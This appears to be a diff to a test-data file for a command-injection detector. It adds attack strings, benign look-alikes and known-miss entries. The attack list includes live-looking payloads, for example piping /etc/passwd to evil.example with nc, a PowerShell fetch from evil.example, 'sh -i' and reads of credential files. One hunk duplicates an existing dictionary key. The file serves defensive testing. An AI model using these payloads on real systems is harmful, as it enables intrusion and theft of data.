@@ -238,6 +238,20 @@ ATTACKS = {
         "x.__class__.__init__.__globals__['os'].popen('id')", "os.execvp('sh', ['sh'])",
         "Kernel.spawn('nc -e sh evil.example 1')", "%x[uname -a]", "IO.popen(['id']).read",
     ],
+    # command injection, more spellings (written before the last changes:
+    # 26 of 30; then argument injection, %COMSPEC% /c: 29 of 30)
+    "r3-command-lines": [
+        "a\nid", "x\r\nwhoami", ";%COMSPEC% /c dir",
+        "& %SystemRoot%\\system32\\cmd.exe /c ver", "|| powershell -c \"iwr evil.example\"",
+        "; pwsh -c id", "& cmd.exe /c \"type C:\\boot.ini\"", ";cat$IFS/etc/passwd",
+        ";{ls,-la}", ";ls${IFS}-la", "x;/usr/bin/id", "x|/bin/cat /etc/hosts",
+        "x;$(which id)", "1;uname", "x&&whoami", "x||ver", "--help;id", "-exec id \\;",
+        "-oProxyCommand=id", "--output=/var/www/html/x.php",
+        "x; echo cHduZWQ= | base64 -d > /tmp/p", "; sh -i",
+        "| nc evil.example 80 < /etc/passwd", "127.0.0.1 && dir", "8.8.8.8 | ipconfig",
+        "localhost; cat /etc/passwd", "; sleep 10 #", "& ping -n 11 127.0.0.1 &",
+        "$(sleep 7)", "`sleep 7`",
+    ],
     # (written after the third round's change: 20 of 20 refused)
     "r3-after-change": [
         "1' AND ascii(substring(version(),1,1))>52--", "1 or pg_sleep(3)--",
@@ -511,6 +525,19 @@ BENIGN = {
         "The __slots__ attribute saves memory",
         "self.__class__.__name__ gives the class name", "Kernel.puts 'hello'",
     ],
+    # (28 of 30 passed before; "PowerShell tips and tricks" passes since
+    # PowerShell counts when it is run, not named)
+    "r3-command-words": [
+        "a; b; c", "salt & pepper", "rock | pop | jazz", "id: 12345",
+        "x && y are both required", "use -o for output", "-exec is a find option",
+        "w is 5 cm", "ver 2.1 release notes", "sleep 10 hours", "dir: left",
+        "ls is short for list", "cat & dog", "echo chamber", "PowerShell tips and tricks",
+        "cmd + c copies", "ping me; I'm free", "sh: command not found (from the log)",
+        "1 && 2 && 3", "x | y", "Tom; Anna; Bob", "A|B testing results", "rm -rf is scary",
+        "help; I'm stuck", "whoami is a great podcast", "uname? what's that",
+        "the nc (netcat) tool", "curl or wget?", "bash vs zsh",
+        "see: https://example.com/a;b",
+    ],
     # (written after the third round's change, to measure it on notes it
     # was not made from: 36 of 40 passed; "$(5)" passes since)
     "r3-after-change": [
@@ -615,8 +642,8 @@ KNOWN_MISSES = {
     "\\\\evil.example\\share\\x": "a UNC path to a foreign host: no rule reads \\\\host",
     "a\nid": "a line break then a two-letter command: 'id' alone after a newline "
               "is too short a word to call a command in text",
-    ";%COMSPEC% /c dir": "cmd.exe named by its environment variable: %VAR% is not "
-                         "resolved to a command",
+    "a\nid": "a line break then a two-letter command: 'id' alone after a newline "
+              "is too short a word to call a command in text",
     "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==": "a base64 Java stream of a HashMap: the "
                                              "serialized-object rule wants a gadget class",
 }
@@ -644,6 +671,7 @@ KNOWN_FALSE_POSITIVES = {
                              "any word may be one",
     "use <script defer> for speed": "a script tag is a script tag",
     "Select * from our menu": "SELECT * FROM a name is SQL",
+    "1 && 2 && 3": "a chain of numbers joined by && is a true SQL condition",
     "shell_exec() is disabled on our host": "a distinctive PHP name called, even "
                                             "empty (CRS 933150 counts FOOgzinflate())",
     "javascript: void operator explained": "void after javascript: starts code "
